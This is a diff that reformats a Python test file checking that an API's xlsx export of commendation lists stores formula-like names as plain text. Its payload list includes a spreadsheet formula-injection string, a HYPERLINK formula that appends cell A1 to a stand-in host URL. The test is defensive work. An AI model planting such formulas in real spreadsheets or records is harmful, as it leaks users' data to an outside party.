@@ -11,7 +11,15 @@ from api.tabular import workbook_bytes
 from tests.api.conftest import running_server
 from tests.api.test_seed_000_walkthrough import Clock
 from tests.conftest import BACKENDS
-from tests.integration.world import COMMENDING, DECLARING, INSPECTING, PRE_REVIEWING, SITE_CHECKS, material, scores_for
+from tests.integration.world import (
+    COMMENDING,
+    DECLARING,
+    INSPECTING,
+    PRE_REVIEWING,
+    SITE_CHECKS,
+    material,
+    scores_for,
+)
 
 PAYLOADS = [
     '=HYPERLINK("http://x/?"&A1,"click")',
@@ -47,7 +55,9 @@ def test_the_writer_stores_every_dangerous_prefix_as_text_and_numbers_as_numbers
 
 
 def test_text_recorded_with_a_control_character_before_they_were_refused_still_exports() -> None:
-    book = load_workbook(io.BytesIO(workbook_bytes("t", ["名称 / Name"], [["前双村\x00站点"], ["=x\x1b"]])))
+    book = load_workbook(
+        io.BytesIO(workbook_bytes("t", ["名称 / Name"], [["前双村\x00站点"], ["=x\x1b"]]))
+    )
     assert [c.value for c in book.active["A"]][1:] == ["前双村\ufffd站点", "=x\ufffd"]
 
 
@@ -57,17 +67,48 @@ def test_commendation_list_holds_formula_names_as_text(database_url: str) -> Non
     with running_server(database_url, clock) as server, server.client() as admin:
         for unit in [
             {"id": "city-1", "name": "Sample City", "name_zh": "示范市", "level": "city"},
-            {"id": "county-1", "name": "Yijun County", "name_zh": "宜君县", "level": "county", "parent_id": "city-1"},
-            {"id": "town-3", "name": "=1+1", "name_zh": "=2+2", "level": "township", "parent_id": "county-1"},
-            *({"id": f"vil-3-{i:02d}", "name": f"Village {i}", "name_zh": f"村{i}", "level": "village", "parent_id": "town-3"} for i in range(len(PAYLOADS))),
+            {
+                "id": "county-1",
+                "name": "Yijun County",
+                "name_zh": "宜君县",
+                "level": "county",
+                "parent_id": "city-1",
+            },
+            {
+                "id": "town-3",
+                "name": "=1+1",
+                "name_zh": "=2+2",
+                "level": "township",
+                "parent_id": "county-1",
+            },
+            *(
+                {
+                    "id": f"vil-3-{i:02d}",
+                    "name": f"Village {i}",
+                    "name_zh": f"村{i}",
+                    "level": "village",
+                    "parent_id": "town-3",
+                }
+                for i in range(len(PAYLOADS))
+            ),
         ]:
             assert admin.post("/v1/units", json=unit).status_code == 201, unit
         tokens = {
             role: admin.post("/v1/tokens", json={"role": role, "unit_id": unit}).json()["token"]
             for role, unit in [("declarer", "town-3"), ("reviewer", "city-1"), ("inspector", "city-1")]
         }
-        declarer, reviewer, inspector = (server.client(tokens[r]) for r in ("declarer", "reviewer", "inspector"))
-        cid = admin.post("/v1/campaigns", json={"template": "five-good-sites", "organiser_unit_id": "city-1", "year": 2022, "quotas": {"five_good_site": 10}}).json()["id"]
+        declarer, reviewer, inspector = (
+            server.client(tokens[r]) for r in ("declarer", "reviewer", "inspector")
+        )
+        cid = admin.post(
+            "/v1/campaigns",
+            json={
+                "template": "five-good-sites",
+                "organiser_unit_id": "city-1",
+                "year": 2022,
+                "quotas": {"five_good_site": 10},
+            },
+        ).json()["id"]
 
         ids = []
         for i, payload in enumerate(PAYLOADS):
@@ -83,13 +124,30 @@ def test_commendation_list_holds_formula_names_as_text(database_url: str) -> Non
             ids.append(declared.json()["id"])
         clock.now = PRE_REVIEWING
         for nid in ids:
-            assert reviewer.post(f"/v1/nominations/{nid}/pre-review", json={"decision": "admit", "checks": SITE_CHECKS}).status_code == 200
+            assert (
+                reviewer.post(
+                    f"/v1/nominations/{nid}/pre-review",
+                    json={"decision": "admit", "checks": SITE_CHECKS},
+                ).status_code
+                == 200
+            )
         clock.now = INSPECTING
         for nid in ids:
-            done = inspector.post(f"/v1/nominations/{nid}/inspections", json={"methods": ["document_review", "site_visit"], "scores": scores_for(90), "verdict": "pass"})
+            done = inspector.post(
+                f"/v1/nominations/{nid}/inspections",
+                json={
+                    "methods": ["document_review", "site_visit"],
+                    "scores": scores_for(90),
+                    "verdict": "pass",
+                },
+            )
             assert done.status_code == 200, done.text
         clock.now = COMMENDING
-        assert len(reviewer.post(f"/v1/campaigns/{cid}/commendations", json={"category": "five_good_site"}).json()["commended"]) == len(PAYLOADS)
+        assert len(
+            reviewer.post(
+                f"/v1/campaigns/{cid}/commendations", json={"category": "five_good_site"}
+            ).json()["commended"]
+        ) == len(PAYLOADS)
 
         xlsx = admin.get(f"/v1/campaigns/{cid}/commendations.xlsx")
         assert xlsx.status_code == 200
@@ -97,7 +155,9 @@ def test_commendation_list_holds_formula_names_as_text(database_url: str) -> Non
         assert not [(c.coordinate, c.value) for row in opened for c in row if c.data_type == "f"]
         names = [row[3] for row in opened[1:]]
         assert sorted(c.value for c in names) == sorted(SHOWN) and all(c.data_type == "s" for c in names)
-        assert {row[5].value for row in opened[1:]} == {"=2+2 / =1+1"}  # the declaring unit's names, text too
+        assert {row[5].value for row in opened[1:]} == {
+            "=2+2 / =1+1"
+        }  # the declaring unit's names, text too
         assert all(row[6].data_type == "n" for row in opened[1:])  # scores stay numbers
         for client in (declarer, reviewer, inspector):
             client.close()
